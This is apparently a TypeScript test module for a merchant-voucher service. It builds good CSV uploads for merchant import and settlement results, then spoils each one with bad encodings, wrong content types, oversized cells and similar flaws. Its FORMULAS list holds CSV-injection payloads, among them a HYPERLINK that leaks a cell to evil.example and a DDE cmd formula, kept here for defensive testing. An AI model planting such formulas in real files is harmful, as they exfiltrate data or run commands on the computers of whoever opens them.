import { NestFastifyApplication } from '@nestjs/platform-fastify';
import { newPublicId } from '@vouchers/common';
import { eligibilityKeys } from '@vouchers/eligibility';
import { REDIS, Redis } from '@vouchers/redis';
import { gzipSync } from 'node:zlib';
import { DataSource } from 'typeorm';
import { Start } from './hostile-things';
import { newCreditCode, randomAccountNumber } from './merchant-accounts';

/**
 * The uploads of test/hostile-inputs: the operations whose body is a file (CSV) have no
 * example in /docs, so each has a good file here, made anew for each request from the things
 * of a start, and the file is spoiled one way at a time: sent as another content type, empty,
 * cut, in another encoding, binary, with a line too long, a cell a spreadsheet would run as a
 * formula, a column too few or too many.
 */

/** An upload operation's good file, header first, and what a refused one must not leave behind. */
export interface GoodUpload {
  rows(start: Start): string[][];
  /** After a 4xx (the file refused whole): what it wrote all the same, or null. */
  leftBehind?(app: NestFastifyApplication, rows: string[][], start: Start): Promise<string | null>;
  /** Takes away what the files taken wrote, once the sweep is done. */
  cleanUp?(app: NestFastifyApplication): Promise<void>;
}

const importedCodes = new Set<string>();

/** By operation label. An upload in /docs with none here fails the sweep. */
export const GOOD_UPLOADS: Record<string, GoodUpload> = {
  'POST /v1/merchants/import': {
    rows: () => {
      const creditCode = newCreditCode();
      importedCodes.add(creditCode);
      return [
        'credit_code,registered_name,shop_name,district,category,address,latitude,longitude,contact_phone,bank_account_name,bank_name,bank_account_number'.split(','),
        [creditCode, '宁波敌意测试有限公司', '敌意测试小馆', 'haishu', 'dining', '海曙区中山西路 1 号', '29.8683', '121.544', '13800138000', '宁波敌意测试有限公司', '中国工商银行宁波分行', randomAccountNumber()],
      ];
    },
    leftBehind: async (app, rows) => {
      const written: unknown[] = await app.get(DataSource).query('SELECT 1 FROM merchants WHERE credit_code = $1', [rows[1][0]]);
      return written.length > 0 ? 'its merchant was written' : null;
    },
    cleanUp: async (app) => {
      const db = app.get(DataSource);
      const codes = [...importedCodes];
      const gone: Array<{ public_id: string }> = await db.transaction(async (manager) => {
        await manager.query('DELETE FROM merchant_bank_account_changes WHERE merchant_id IN (SELECT id FROM merchants WHERE credit_code = ANY($1))', [codes]);
        return (await manager.query('DELETE FROM merchants WHERE credit_code = ANY($1) RETURNING public_id', [codes]))[0];
      });
      const redis = app.get<Redis>(REDIS);
      await Promise.all(gone.map((merchant) => redis.del(eligibilityKeys.merchant(merchant.public_id))));
    },
  },
  'POST /v1/settlement/batches/{batchId}/bank-results': {
    // A line already paid: the same result again changes nothing; failed contradicts it.
    rows: (start) => [
      ['line_id', 'result', 'reason'],
      [start.pathValues.lineId ?? newPublicId(), 'paid', ''],
    ],
    leftBehind: async (app, _rows, start) => {
      if (!start.pathValues.lineId) return null;
      const [line]: Array<{ status: string; batch: string }> = await app
        .get(DataSource)
        .query('SELECT l.status, b.status AS batch FROM settlement_lines l JOIN settlement_batches b ON b.id = l.batch_id WHERE l.public_id = $1', [
          start.pathValues.lineId,
        ]);
      return line.status === 'paid' && line.batch === 'paid' ? null : `the paid line is now ${line.status} in a ${line.batch} batch`;
    },
  },
};

export interface UploadVariant {
  what: string;
  /** null: no content-type header at all. */
  contentType: string | null;
  body: Buffer;
  /** The rows the body was made from (before it was spoiled), for leftBehind. */
  rows: string[][];
  /** Refused whatever the file holds: a 2xx means it was taken. */
  mustRefuse?: boolean;
}

const cell = (value: string) => (/[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value);
export const csvOf = (rows: string[][], eol = '\r\n') => rows.map((row) => row.map(cell).join(',')).join(eol) + eol;
const utf8 = (text: string) => Buffer.from(text, 'utf8');

/** Text a spreadsheet runs as a formula when a cell starts with it (CSV injection). */
const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点此核对")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1,1)', '\t=1+1'];
/** 宁波测试 in GBK, as a spreadsheet saves it on a Chinese Windows. */
const GBK = Buffer.from([0xc4, 0xfe, 0xb2, 0xa8, 0xb2, 0xe2, 0xca, 0xd4]);
/** Bytes of every value, a PNG's signature first: no text at all. */
const BINARY = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 37) % 256))]);

const withCell = (rows: string[][], column: number, value: string) => [rows[0], [...rows[1].slice(0, column), value, ...rows[1].slice(column + 1)], ...rows.slice(2)];
/** The file with `tail` (bytes) in place of the good row's last cell. */
const withBytesAtEnd = (rows: string[][], tail: Buffer) => {
  const text = csvOf(withCell(rows, rows[1].length - 1, '\u0000'));
  const at = text.lastIndexOf('\u0000');
  return Buffer.concat([utf8(text.slice(0, at)), tail, utf8(text.slice(at + 1))]);
};

const BOUNDARY = '----hostile-boundary';
/** The file as a browser's form posts it: one part, named file. */
const multipart = (rows: string[][]) =>
  `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="upload.csv"\r\nContent-Type: text/csv\r\n\r\n${csvOf(rows)}\r\n--${BOUNDARY}--\r\n`;

/**
 * The good file as it is, sent as `type` (the content type /docs names), then spoiled one way
 * at a time; `fresh` makes a good file anew for each.
 */
export function uploadVariantsOf(fresh: () => string[][], type: string): UploadVariant[] {
  const variants: UploadVariant[] = [];
  const add = (what: string, make: (rows: string[][]) => Buffer | string, contentType: string | null = type, mustRefuse = false) => {
    const rows = fresh();
    const body = make(rows);
    variants.push({ what, contentType, body: typeof body === 'string' ? utf8(body) : body, rows, mustRefuse });
  };
  add('as it is', (rows) => csvOf(rows));

  for (const other of ['application/json', 'text/plain', 'application/octet-stream', 'application/x-www-form-urlencoded']) {
    add(`sent as ${other}`, (rows) => csvOf(rows), other, true);
  }
  add('sent without a content type', (rows) => csvOf(rows), null, true);
  add('sent as multipart/form-data', multipart, `multipart/form-data; boundary=${BOUNDARY}`, true);
  add(`sent as ${type}; charset=gbk`, (rows) => csvOf(rows), `${type}; charset=gbk`);

  add('an empty file', () => '');
  add('a byte-order mark alone', () => '\ufeff');
  add('blank lines alone', () => '\r\n\n\r\n');
  add('the header alone', (rows) => csvOf(rows.slice(0, 1)));
  add('no header', (rows) => csvOf(rows.slice(1)));
  add('the header backwards', (rows) => csvOf([[...rows[0]].reverse(), ...rows.slice(1)]));
  add('every line without its last column', (rows) => csvOf(rows.map((row) => row.slice(0, -1))));
  add('a row without its last cell', (rows) => csvOf([rows[0], rows[1].slice(0, -1)]));
  add('a row with a cell too many', (rows) => csvOf([rows[0], [...rows[1], 'extra']]));
  add('a row of 20,000 cells', (rows) => csvOf([rows[0], Array.from({ length: 20_000 }, () => 'a')]));
  add('the good row twice', (rows) => csvOf([...rows, rows[1]]));
  add('line breaks of CR alone', (rows) => csvOf(rows, '\r'));
  add('a line of 1 MB after the good row', (rows) => csvOf(rows) + 'x'.repeat(1024 * 1024));
  add('a quoted cell of 1 MB, never closed', (rows) => `${csvOf(rows)}"${'y'.repeat(1024 * 1024)}`);
  add('a cell opening a quote it never closes', (rows) => csvOf(rows).replace(`,${rows[1][1]},`, `,"${rows[1][1]},`));
  add('a cell of 10,000 characters', (rows) => csvOf(withCell(rows, rows[1].length - 1, 'z'.repeat(10_000))));
  add('a NUL in a cell', (rows) => csvOf(withCell(rows, rows[1].length - 1, `a\u0000b`)));
  add('a GBK cell', (rows) => withBytesAtEnd(rows, GBK));
  add('a Latin-1 cell', (rows) => withBytesAtEnd(rows, Buffer.from([0x63, 0x61, 0x66, 0xe9])));
  add('a character cut at the end', (rows) => Buffer.concat([utf8(csvOf(rows)), Buffer.from([0xe5, 0xae])]));
  add('UTF-16 with a byte-order mark', (rows) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(csvOf(rows), 'utf16le')]));
  add('binary', () => BINARY);
  add('the file gzipped', (rows) => gzipSync(csvOf(rows)));
  const columns = fresh()[1].length;
  for (let column = 0; column < columns; column++) {
    const formula = FORMULAS[column % FORMULAS.length];
    add(`a formula in column ${column + 1} (${JSON.stringify(formula.slice(0, 12))}…)`, (rows) => csvOf(withCell(rows, column, formula)));
  }
  return variants;
}
